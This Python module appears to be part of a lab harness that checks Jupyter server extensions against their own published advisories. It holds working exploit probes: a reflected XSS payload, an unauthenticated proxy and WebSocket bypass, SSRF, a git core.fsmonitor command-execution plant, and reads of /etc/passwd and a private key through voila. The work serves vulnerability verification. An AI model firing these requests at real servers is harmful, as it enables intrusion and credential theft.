"""What a client observes of the server extensions a hub commonly installs (claims EXT-01..EXT-08).

Used by ``runbooks/extensions/extensions.md``.  The servers run
``containers/single-user-ext/`` (the pinned extensions) or its sibling
``containers/single-user-ext-old/`` (the last releases before their
advisories' fixes).  Each function sends its requests from the client machine
on the lab network, with the server's token where the attacker is the user's
own browser or account, and without it where the attacker is anyone who can
reach the server; what ran inside the server is read from a file it wrote.
"""

from __future__ import annotations

import json
from urllib.parse import quote

from jsv.claims import Observation
from jsv.environments import JupyterServer, NetClient
from jsv.environments.machine import Machine
from jsv.probes.websocket import websocket_handshake

BACKEND_PORT = 9500
"""A web application of alice's on the server's loopback, reached through ``/proxy/<port>/``."""
BACKEND_FILE = "/opt/jsv/backend.py"
BACKEND_GREETING = "backend of alice"
BACKEND = f"""\
# A web application alice runs on the server's loopback: one page and one WebSocket echo.
import asyncio
import sys

from tornado import web, websocket


class Page(web.RequestHandler):
    def get(self):
        self.write({BACKEND_GREETING!r})


class Echo(websocket.WebSocketHandler):
    def on_message(self, message):
        self.write_message("echo: " + message)


async def main():
    web.Application([(r"/hi", Page), (r"/ws", Echo)]).listen(int(sys.argv[1]), address="127.0.0.1")
    await asyncio.Event().wait()


asyncio.run(main())
"""

XSS_MARK = "jsv-reflected"
XSS_HOST = f"<script>/*{XSS_MARK}*/</script>"
"""The ``host`` part of ``/proxy/<host>:<port>/`` in a link an attacker sends (GHSA-fvcq-4x64-hqxr)."""

SHARED_DIR = "shared"
"""A folder of alice's root where others' files land (a shared mount, an unpacked archive)."""
PLANTED_REPO = f"/home/alice/{SHARED_DIR}/planted"
FSMONITOR_MARK = "/tmp/jsv-fsmonitor-ran"
PLANT_REPOSITORY = f"""\
set -e
mkdir -p {PLANTED_REPO} && cd {PLANTED_REPO}
git init -q .
echo 'a project someone else wrote' > README
git add README
git -c user.name=mallory -c user.email=mallory@example.org commit -qm 'a project'
git config core.fsmonitor 'id -un > {FSMONITOR_MARK}; false'
"""
"""A repository whose own ``.git/config`` names a command git runs on ``git status`` (``core.fsmonitor``)."""


def git_setup() -> list[str]:
    """The configuration both sides of EXT-04 share: jupyterlab-git's exclusion of the shared folder."""
    return [f"c.JupyterLabGit.excluded_paths = ['/{SHARED_DIR}', '/{SHARED_DIR}/*']"]


VOILA_PORT = 8866
DASHBOARD = "dashboard.ipynb"
FAILING_DASHBOARD = "failing.ipynb"
TRACEBACK_MARK = "jsv-db-password-in-traceback"
PRIVATE_FILE = ".ssh/id_ed25519"
PRIVATE_TEXT = "jsv: the content of a private key file of alice's"
PICTURE_FILE = "results/plot.png"
ICON_FILE = "/opt/jsv/tool.svg"
ICON_TEXT = "<svg><!-- jsv: the launcher icon of alice's tool --></svg>"


def proxy_setup() -> list[str]:
    """What both sides of EXT-09 share: a server process for jupyter-server-proxy with a launcher icon."""
    entry = {"command": ["true"], "launcher_entry": {"title": "Tool", "icon_path": ICON_FILE}}
    return [f"c.ServerProxy.servers = {{'tool': {entry!r}}}"]


def notebook(*sources: str) -> str:
    """A notebook of code cells, unexecuted."""
    empty: dict[str, object] = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": []}
    cells = [{**empty, "id": f"c{i}", "source": text} for i, text in enumerate(sources)]
    metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells})


def with_files(server: JupyterServer) -> JupyterServer:
    """What every server of the page holds: alice's backend, two dashboards, a key file and a picture, and
    a jupyter-server-proxy server process with a launcher icon (:func:`proxy_setup`)."""
    failing = f"connection = 'postgres://report:{TRACEBACK_MARK}@db'\nraise RuntimeError(connection)"
    return (
        server.with_file(BACKEND_FILE, BACKEND, 0o644)
        .with_file(f"/home/alice/{DASHBOARD}", notebook("print('a dashboard')"), 0o644)
        .with_file(f"/home/alice/{FAILING_DASHBOARD}", notebook(failing), 0o644)
        .with_file(f"/home/alice/{PRIVATE_FILE}", PRIVATE_TEXT + "\n", 0o600)
        .with_file(f"/home/alice/{PICTURE_FILE}", "jsv: a picture of alice's\n", 0o644)
        .with_file(ICON_FILE, ICON_TEXT, 0o644)
        .with_config(*proxy_setup())
    )


def start_backend(server: Machine) -> str:
    """Start alice's backend on the loopback (as alice, in the background); its first answer."""
    server.run(f"nohup python3 {BACKEND_FILE} {BACKEND_PORT} > /tmp/backend.log 2>&1 &", user="alice")
    ready = server.run_when(
        f"curl -sf http://127.0.0.1:{BACKEND_PORT}/hi >/dev/null",
        f"curl -sS http://127.0.0.1:{BACKEND_PORT}/hi",
        wait=20,
    )
    return ready.stdout


def start_voila(server: Machine) -> str:
    """Start voila on its own on alice's home folder (its tree of dashboards; as alice, all interfaces, no
    token: voila's default); its start lines.

    A folder, not one notebook: voila 0.5.5 given one notebook sends every other path, ``/static/...``
    included, to ``/voila/files/`` (a 302), so the advisory's request reaches the file system only in this
    mode.
    """
    server.run(
        f"cd /home/alice && nohup voila --no-browser --port={VOILA_PORT} --Voila.ip=0.0.0.0 "
        "> /tmp/voila.log 2>&1 &",
        user="alice",
    )
    ready = server.run_when("grep -q 'is running at' /tmp/voila.log", "tail -n 3 /tmp/voila.log", wait=30)
    return ready.stdout


def plant_repository(server: Machine) -> str:
    """Put the repository with a ``core.fsmonitor`` command into alice's shared folder (as alice: an
    unpacked archive is hers)."""
    return server.run(PLANT_REPOSITORY, user="alice").transcript


def _token(target: JupyterServer) -> tuple[str, str]:
    return ("-H", f"Authorization: token {target.token}")


def proxy_authentication(client: NetClient, target: JupyterServer) -> Observation:
    """EXT-01: alice's backend through ``/proxy/<port>/``: over HTTP with and without the token, and a
    WebSocket opened without it (GHSA-w3vc-fx9p-wp4v)."""
    page = target.url(f"/proxy/{BACKEND_PORT}/hi")
    with_token = client.http(page, *_token(target))
    anonymous = client.http(page)
    socket = websocket_handshake(client, target.url(f"/proxy/{BACKEND_PORT}/ws"), None)
    answers = {
        "HTTP with the token": with_token.status,
        "HTTP without a token": anonymous.status,
        "WebSocket without a token": socket.status,
    }
    transcripts = [with_token.transcript, anonymous.transcript, socket.transcript]
    return Observation(answers, "\n\n".join(transcripts))


def proxy_host_reflection(client: NetClient, target: JupyterServer) -> Observation:
    """EXT-02: the link ``/proxy/<script>:80/`` opened in alice's logged-in browser (the token stands
    for her cookie): is the script in the answer as markup (GHSA-fvcq-4x64-hqxr)?"""
    reply = client.http(target.url(f"/proxy/{quote(XSS_HOST, safe='')}:80/"), *_token(target))
    answers = {
        "status": reply.status,
        "content type": reply.headers.get("content-type", "").split(";")[0],
        "script reflected": XSS_HOST in reply.body,
    }
    return Observation(answers, reply.transcript)


def proxy_other_host(client: NetClient, other: JupyterServer, target: JupyterServer) -> Observation:
    """EXT-03: alice's token asks her server to fetch ``/api`` of another machine (``other``) through
    ``/proxy/<host>:<port>/``: does the answer come back?"""
    reply = client.http(target.url(f"/proxy/{other.alias}:8888/api"), *_token(target))
    answers = {"status": reply.status, "other machine's answer": '"version"' in reply.body}
    return Observation(answers, reply.transcript)


def undecorated_route(client: NetClient, target: JupyterServer) -> Observation:
    """EXT-09: a route an extension registers without an authentication decorator (jupyter-server-proxy's
    launcher icon), asked for by a client with no token; and a decorated one beside it for comparison."""
    icon = client.http(target.url("/server-proxy/icon/tool"))
    listing = client.http(target.url("/server-proxy/servers-info"))
    answers = {
        "icon (no decorator)": f"{icon.status} {'content' if 'launcher icon' in icon.body else 'no content'}",
        "servers-info (@web.authenticated)": listing.status,
    }
    return Observation(answers, f"{icon.transcript}\n\n{listing.transcript}")


def git_status(client: NetClient, target: JupyterServer, path: str) -> tuple[int, str]:
    reply = client.http(target.url(f"/git{path}/status"), "-X", "POST", "-d", "{}", *_token(target))
    return reply.status, reply.transcript


def excluded_case(client: NetClient, target: JupyterServer) -> Observation:
    """EXT-04: ``POST /git/<path>/status`` for the excluded folder as configured and with its first letter
    in capitals (GHSA-436q-jwfr-rm2h)."""
    plain, plain_shown = git_status(client, target, f"/{SHARED_DIR}")
    varied, varied_shown = git_status(client, target, f"/{SHARED_DIR.capitalize()}")
    answers = {f"/{SHARED_DIR}": plain, f"/{SHARED_DIR.capitalize()}": varied}
    return Observation(answers, f"{plain_shown}\n\n{varied_shown}")


def planted_fsmonitor(client: NetClient, target: JupyterServer) -> Observation:
    """EXT-05: the Git panel's status request in the planted repository; did its ``core.fsmonitor`` run?"""
    target.run(f"rm -f {FSMONITOR_MARK}")
    status, shown = git_status(client, target, f"/{SHARED_DIR}/planted")
    ran = target.run(f"cat {FSMONITOR_MARK} 2>/dev/null")
    answers = {"status": status, "command ran as": ran.stdout.strip() or None}
    return Observation(answers, f"{shown}\n\n{ran.transcript}")


def voila_static_read(client: NetClient, target: JupyterServer) -> Observation:
    """EXT-06: ``GET /static/etc/passwd`` from standalone voila, without a token (GHSA-2q59-h24c-w6fg)."""
    reply = client.http(f"http://{target.alias}:{VOILA_PORT}/static/etc/passwd")
    answers = {"status": reply.status, "/etc/passwd served": "root:x:0:0" in reply.body}
    return Observation(answers, reply.transcript)


def voila_files_anonymous(client: NetClient, target: JupyterServer) -> Observation:
    """EXT-07: alice's files under ``/voila/files/`` asked for by a client with no token."""
    answers, transcripts = {}, []
    for label, path, text in (
        ("picture", PICTURE_FILE, "a picture of alice's"),
        ("private key file", PRIVATE_FILE, PRIVATE_TEXT),
    ):
        reply = client.http(target.url(f"/voila/files/{path}"))
        answers[label] = f"{reply.status} {'content' if text in reply.body else 'no content'}"
        transcripts.append(reply.transcript)
    return Observation(answers, "\n\n".join(transcripts))


def voila_traceback(client: NetClient, target: JupyterServer) -> Observation:
    """EXT-08: a dashboard whose cell fails, rendered for someone alice shares it with: is the error's
    text (here a connection string) on the page?"""
    reply = client.http(target.url(f"/voila/render/{FAILING_DASHBOARD}"), *_token(target), timeout=60)
    answers = {"status": reply.status, "error text shown": TRACEBACK_MARK in reply.body}
    return Observation(answers, reply.transcript)
